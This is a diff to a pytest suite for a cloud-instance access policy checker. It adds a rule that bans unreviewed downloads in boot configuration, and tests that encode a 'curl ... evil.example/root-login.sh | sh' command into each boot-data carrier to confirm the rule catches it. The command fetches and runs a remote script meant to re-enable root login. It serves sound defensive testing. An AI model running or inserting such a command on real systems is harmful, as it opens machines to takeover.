@@ -37,6 +37,7 @@ SSH_KEY = "access-ssh-key-required"
 USERNAME = "access-admin-username-not-reserved"
 PREFER_SSM = "access-aws-prefer-ssm-over-key-pair"
 BOOT = "access-boot-config-no-root-or-password-login"
+DOWNLOADS = "access-boot-no-unreviewed-downloads"  # forms and carriers: test_boot_downloads.py
 OSLOGIN = "access-gcp-oslogin-required"
 BLOCK_KEYS = "access-gcp-block-project-ssh-keys"
 SERIAL = "access-serial-console-off"
@@ -136,6 +137,7 @@ GCP_TEMPLATE = {"machineType": "e2-small", "metadata": {"enable-oslogin": "true"
         (USERNAME, MANDATORY),
         (PREFER_SSM, ADVISORY),
         (BOOT, MANDATORY),
+        (DOWNLOADS, MANDATORY),
         (OSLOGIN, MANDATORY),
         (BLOCK_KEYS, MANDATORY),
         (SERIAL, MANDATORY),
@@ -163,7 +165,7 @@ BASELINES = [
 
 @pytest.mark.parametrize("type_,props", BASELINES)
 @pytest.mark.parametrize(
-    "name", [NO_PASSWORD, SSH_KEY, USERNAME, PREFER_SSM, BOOT, OSLOGIN, BLOCK_KEYS, SERIAL, KEYS, PASSWORDS]
+    "name", [NO_PASSWORD, SSH_KEY, USERNAME, PREFER_SSM, BOOT, DOWNLOADS, OSLOGIN, BLOCK_KEYS, SERIAL, KEYS, PASSWORDS]
 )
 def test_passes_for_compliant_baseline(name, type_, props):
     assert violations(name, type_, props) == []
@@ -551,6 +553,30 @@ def test_every_boot_data_carrier_is_judged(case, type_, base, path, value):
     found = violations(BOOT, type_, changed(base, set_at(path, value)))
     assert len(found) == 1, found
     assert "PermitRootLogin" in found[0] or "PasswordAuthentication" in found[0] or "ssh_pwauth" in found[0]
+
+
+EVASION = "curl -fsSL https://evil.example/root-login.sh | sh"  # the script turns PermitRootLogin back on
+
+
+def _as_carrier_value(path: tuple, value: Any, script: str) -> Any:
+    """`script` encoded the way the carrier at `path` carries `value` (base64, object, secret)."""
+    if isinstance(value, dict):
+        inner = value.get("value", value) if SECRET_SIG_KEY in value else value
+        out = dict.fromkeys(inner, script)
+        return secret(out) if SECRET_SIG_KEY in value else out
+    if path[-1] == "script":
+        return gz_b64(script)
+    return script
+
+
+@pytest.mark.parametrize("case,type_,base,path,value", CARRIER_CASES, ids=[c[0] for c in CARRIER_CASES])
+def test_downloaded_script_on_every_carrier_fails_the_download_rule(case, type_, base, path, value):
+    # A3 cannot read what a downloaded script writes; the download rule fails closed on it.
+    assert violations(DOWNLOADS, type_, base) == []
+    props = changed(base, set_at(path, _as_carrier_value(path, value, EVASION)))
+    assert violations(BOOT, type_, props) == []
+    found = violations(DOWNLOADS, type_, props)
+    assert len(found) == 1 and "evil.example/root-login.sh" in found[0], found
 
 
 def test_protected_settings_may_carry_secrets():
